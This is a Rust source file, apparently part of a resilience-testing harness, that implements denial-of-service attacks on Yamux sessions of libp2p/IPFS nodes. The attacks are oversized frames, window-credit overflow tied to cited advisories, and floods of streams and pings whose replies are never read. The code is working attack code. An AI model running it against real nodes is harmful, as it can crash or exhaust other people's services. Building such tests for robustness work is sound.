//! Attacks inside a Yamux session: frames the receive window cannot hold, window credit that
//! overflows, and requests whose answers are never read.

use std::sync::Arc;

use hyphae_yamux::INITIAL_WINDOW;
use hyphae_yamux::frame::{Flags, Header, StreamId};

use super::wire::{self, Counters, Writer};
use super::{Target, workers};

/// The ping protocol: every 32 bytes sent are echoed back.
pub const PING: &str = "/ipfs/ping/1.0.0";
/// The identify protocol: opening a stream makes the node write its identify message.
pub const IDENTIFY: &str = "/ipfs/id/1.0.0";
/// Bytes of one ping.
const PING_LEN: usize = 32;
/// Data we send on one stream at most in the never-read attacks: the node's initial receive
/// window, so that we never break flow control ourselves and the node must hold it all (a
/// node cutting us off for a window violation would be testing something else).
const STREAM_BUDGET: usize = INITIAL_WINDOW as usize - 4 * 1024;

/// Data frames announcing 1 MiB, four times the 256 KiB initial window (GHSA-vxx9-2994-q338:
/// a receiver that buffers what the frame announces instead of refusing it).
pub async fn oversized_syn(target: Target, counters: Arc<Counters>) {
    workers(8, target, counters, |index, target, counters| async move {
        let io = wire::secure(&target, index, &counters).await?;
        wire::while_draining(io, |writer| oversized_frames(writer, counters)).await
    })
    .await
}

/// Length announced by each oversized frame.
const OVERSIZED: usize = 1 << 20;

async fn oversized_frames(mut writer: Writer, counters: Arc<Counters>) -> anyhow::Result<()> {
    let chunk = vec![0; 64 * 1024];
    for id in (1..).step_by(2) {
        wire::send(
            &mut writer,
            &wire::data_header(id, Flags::SYN, OVERSIZED)?,
            &counters,
        )
        .await?;
        Counters::add(&counters.units, 1);
        for _ in 0..OVERSIZED / chunk.len() {
            wire::send(&mut writer, &chunk, &counters).await?;
        }
    }
    Ok(())
}

/// Opens ping streams and grants each twice `u32::MAX` of send credit, which overflows a
/// 32-bit send window (GHSA-4w32-2493-32g7: a panic on the addition), and asks for a ping
/// so that the node sends with that window.
pub async fn window_overflow(target: Target, counters: Arc<Counters>) {
    workers(8, target, counters, |index, target, counters| async move {
        let io = wire::secure(&target, index, &counters).await?;
        wire::while_draining(io, |writer| overflowing_updates(writer, counters)).await
    })
    .await
}

async fn overflowing_updates(mut writer: Writer, counters: Arc<Counters>) -> anyhow::Result<()> {
    for id in (1..).step_by(2) {
        let mut frames = wire::open_stream_frame(id, PING, &[0; PING_LEN])?;
        for _ in 0..2 {
            let update = Header::window_update(StreamId::new(id), Flags::NONE, u32::MAX);
            frames.extend_from_slice(&update.encode());
        }
        frames.extend_from_slice(&wire::data_frame(id, &[1; PING_LEN])?);
        wire::send(&mut writer, &frames, &counters).await?;
        Counters::add(&counters.units, 2);
    }
    Ok(())
}

/// Streams opened on one connection of the never-read attack (the node's limit is usually
/// lower: it must refuse the rest).
const STREAMS_PER_CONNECTION: u32 = 1000;

/// Eight connections, each opening [`STREAMS_PER_CONNECTION`] streams: three in four ask
/// for pings (a window's worth each), one in four for identify; the socket is never read,
/// so every answer stays with the node, which must stop reading from us rather than queue
/// without bound. (A node that keeps every stream's 256 KiB window full holds up to 128 MiB
/// per connection at 512 streams: eight connections stay within what this machine can give.)
pub async fn streams_never_read(target: Target, counters: Arc<Counters>) {
    workers(8, target, counters, |index, target, counters| async move {
        let mut io = wire::secure(&target, index, &counters).await?;
        let mut ping_streams = Vec::new();
        for n in 0..STREAMS_PER_CONNECTION {
            let id = 1 + 2 * n;
            let frame = if n % 4 == 3 {
                wire::open_stream_frame(id, IDENTIFY, &[])?
            } else {
                ping_streams.push(id);
                wire::open_stream_frame(id, PING, &[0; PING_LEN])?
            };
            wire::send(&mut io, &frame, &counters).await?;
            Counters::add(&counters.units, 1);
        }
        // The rest of each stream's window in pings, 64 at a time per stream.
        let batch = wire::data_frame(0, &[0; 64 * PING_LEN])?.len();
        for _ in 0..STREAM_BUDGET / (64 * PING_LEN) {
            let mut frames = Vec::with_capacity(batch * ping_streams.len());
            for &id in &ping_streams {
                frames.extend_from_slice(&wire::data_frame(id, &[0; 64 * PING_LEN])?);
            }
            wire::send(&mut io, &frames, &counters).await?;
        }
        // Hold the connection, its answers unread.
        std::future::pending::<()>().await;
        Ok(())
    })
    .await
}

/// Four connections sending Yamux pings (256 per write) and ping-protocol requests as fast
/// as they can, never reading: each ping obliges the node to answer.
pub async fn unread_pings(target: Target, counters: Arc<Counters>) {
    workers(4, target, counters, |index, target, counters| async move {
        let mut io = wire::secure(&target, index, &counters).await?;
        let (mut stream, mut stream_bytes) = (1, 0);
        wire::send(
            &mut io,
            &wire::open_stream_frame(stream, PING, &[])?,
            &counters,
        )
        .await?;
        for opaque in (0u32..).step_by(256) {
            let mut frames = Vec::with_capacity(256 * 12 + 16 * 44);
            for n in 0..256 {
                frames.extend_from_slice(&Header::ping(Flags::SYN, opaque + n).encode());
            }
            // A ping stream takes a window's worth of pings; then the next one opens.
            if stream_bytes + 16 * PING_LEN > STREAM_BUDGET {
                stream += 2;
                stream_bytes = 0;
                frames.extend_from_slice(&wire::open_stream_frame(stream, PING, &[])?);
            }
            for _ in 0..16 {
                frames.extend_from_slice(&wire::data_frame(stream, &[0; PING_LEN])?);
            }
            stream_bytes += 16 * PING_LEN;
            wire::send(&mut io, &frames, &counters).await?;
            Counters::add(&counters.units, 256 + 16);
        }
        Ok(())
    })
    .await
}
